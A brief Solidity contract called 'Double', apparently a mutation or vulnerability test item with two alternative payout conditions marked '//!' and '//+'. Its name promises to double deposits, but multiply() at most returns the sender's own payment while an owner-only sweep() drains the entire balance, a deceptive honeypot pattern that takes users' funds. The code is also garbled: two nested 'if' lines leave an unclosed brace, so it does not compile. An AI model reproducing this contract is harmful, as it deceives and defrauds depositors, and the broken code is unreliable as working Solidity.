pragma solidity ^0.8.0;
contract Double {
    address payable public owner = payable(msg.sender);
    function multiply() external payable {
        if (msg.value >= address(this).balance) { //!
        if (msg.value >= 1 ether) { //+
            payable(msg.sender).transfer(msg.value);
        }
    }
    function sweep() external { require(msg.sender == owner); owner.transfer(address(this).balance); }
}
